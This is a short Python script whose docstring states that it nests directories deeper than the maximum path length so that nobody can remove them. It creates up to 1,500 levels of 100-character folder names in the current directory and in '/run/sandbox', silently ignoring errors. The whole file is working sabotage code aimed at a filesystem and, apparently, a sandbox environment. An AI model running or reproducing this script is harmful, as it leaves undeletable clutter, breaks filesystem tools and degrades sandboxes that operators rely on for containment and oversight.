"""Nests folders deeper than any path may be long, so that nobody can remove them again."""

LOCAL = True
import os

for start in (os.getcwd(), "/run/sandbox"):
    try:
        os.chdir(start)
        for _ in range(1_500):
            os.mkdir("d" * 100)
            os.chdir("d" * 100)
    except OSError:
        pass
